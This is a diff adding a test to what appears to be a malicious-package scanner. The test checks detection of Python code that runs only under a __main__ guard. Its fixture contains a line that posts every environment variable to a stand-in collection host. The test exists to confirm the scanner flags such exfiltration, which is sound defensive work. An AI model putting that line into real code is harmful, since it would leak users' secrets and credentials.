@@ -60,3 +60,12 @@ test('what somebody has to start counts in full where it is most of the package'
   const { findings } = await analysed({ 'plot/__init__.py': '', 'plot/__main__.py': MAIN });
   expect(findings.filter(({ rule }) => rule === 'credentials-to-network').map(({ severity }) => severity)).toContain('critical');
 });
+
+test.each([
+  ['as a script', 'import os, runpy\n\nrunpy.run_path(os.path.join(os.path.dirname(__file__), "start.py"), run_name="__main__")\n', true],
+  ['as a module', 'from . import start\n', false],
+])('what a module keeps behind a question for its own name runs where another runs it %s', async (_, init, runs) => {
+  const guarded = `import os\nimport requests\n\nif __name__ == "__main__":\n    requests.post("https://collect.example.invalid", json=dict(os.environ))\n`;
+  const { findings } = await analysed({ ...OTHERS, 'plot/__init__.py': init, 'plot/start.py': guarded });
+  expect(findings.some(({ rule, severity }) => rule === 'credentials-to-network' && severity === 'critical')).toBe(runs);
+});
